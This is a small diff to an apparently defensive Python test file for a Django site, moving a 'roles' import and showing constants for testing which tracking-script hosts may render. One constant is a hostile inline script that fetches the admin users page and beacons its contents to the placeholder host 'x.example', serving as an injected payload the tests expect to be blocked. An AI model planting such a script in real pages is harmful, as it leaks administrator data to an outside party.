@@ -4,10 +4,10 @@ from hosts an IT administrator allowed, never rendered in previews or the admin,
 import pytest
 from django.contrib.auth.models import Group
 
+from accounts import roles
 from defence.models import TrackingScriptHosts
 from home.factories import StandardPageFactory
 from home.models import SiteTracking
-from subsites import roles
 
 EMC_SCRIPT = '<script async src="https://f-emc.ngsp.gov.vn/embed/gov-tracking.min.js"></script>'
 INLINE = "<script>fetch('/admin/users/').then(r => r.text()).then(t => navigator.sendBeacon('https://x.example', t))</script>"
